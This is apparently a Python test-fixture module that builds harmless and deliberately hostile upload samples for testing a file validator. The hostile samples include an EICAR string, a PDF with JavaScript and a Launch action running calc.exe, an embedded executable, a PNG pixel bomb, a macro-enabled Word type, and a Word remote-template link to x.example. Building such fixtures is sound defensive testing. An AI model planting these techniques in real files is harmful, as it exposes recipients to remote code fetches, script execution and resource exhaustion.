"""Files for the tests of uploads: honest ones, and those that somebody made to do harm."""

import io
import struct
import zipfile
import zlib

import pikepdf
from docx import Document
from openpyxl import Workbook
from PIL import Image

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<html><script>alert(1)</script></html>"
GPS = 0x8825


def pdf(change=None) -> bytes:
    """A PDF of one empty page, changed before it is saved."""
    with pikepdf.new() as document:
        document.add_blank_page()
        if change:
            change(document)
        file = io.BytesIO()
        document.save(file)
    return file.getvalue()


def scripted_pdf() -> bytes:
    def add(document):
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")

    return pdf(add)


def annotated_pdf() -> bytes:
    """The script sits in an annotation's own action, three dictionaries deep."""

    def add(document):
        run = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=run)
        document.pages[0].Annots = pikepdf.Array([note])

    return pdf(add)


def pdf_with_file() -> bytes:
    def add(document):
        document.attachments["x.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")

    return pdf(add)


def locked_pdf() -> bytes:
    with pikepdf.open(io.BytesIO(pdf())) as document:
        file = io.BytesIO()
        document.save(file, encryption=pikepdf.Encryption(owner="o", user="u"))
    return file.getvalue()


def picture(form: str, **saved) -> bytes:
    file = io.BytesIO()
    Image.effect_mandelbrot((60, 40), (-2, -1, 1, 1), 20).convert("RGB").save(file, form, **saved)
    return file.getvalue()


def located_jpeg() -> bytes:
    """A photograph that says where it was taken, by what, and lies on its side."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = "Invented Phone", 6
    exif.get_ifd(GPS).update({1: "N", 2: (53.0, 47.0, 1.0), 3: "W", 4: (1.0, 33.0, 1.0)})
    return picture("JPEG", exif=exif, comment=b"At Robin's home")


def pixel_bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG of a few kilobytes whose header promises billions of pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 10**6))
        + chunk(b"IEND", b"")
    )


def word() -> bytes:
    file = io.BytesIO()
    document = Document()
    document.add_paragraph("Invented words")
    document.save(file)
    return file.getvalue()


def excel() -> bytes:
    file = io.BytesIO()
    book = Workbook()
    book.active.append(["Invented", 3])
    book.save(file)
    return file.getvalue()


def zipped(original: bytes, **parts: bytes) -> bytes:
    """The archive with parts put in or taken the place of: `word__evil_xml` is word/evil.xml."""
    named = {
        name.replace("__", "/").replace("_xml", ".xml").replace("_bin", ".bin"): body for name, body in parts.items()
    }
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(original)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in named:
                new.writestr(name, old.read(name))
        for name, body in named.items():
            new.writestr(name, body)
    return file.getvalue()


def linked_word() -> bytes:
    """Its template lies on somebody else's server: Word would fetch it when the file is opened."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    relation = f'<Relationship Id="r1" Type="{kind}" Target="http://x.example/t.dotm" TargetMode="External"/>'
    body = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation}</Relationships>'
    return zipped(word(), **{"word___rels__settings_xml.rels": body.encode()})


def entity_in_utf16() -> bytes:
    return zipped(word(), x_xml="<!DOCTYPE x>".encode("utf-16"))


def macro_word() -> bytes:
    with zipfile.ZipFile(io.BytesIO(word())) as archive:
        types = archive.read("[Content_Types].xml")
    plain, macro = b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
    return zipped(word(), **{"[Content_Types]_xml": types.replace(plain, macro)})
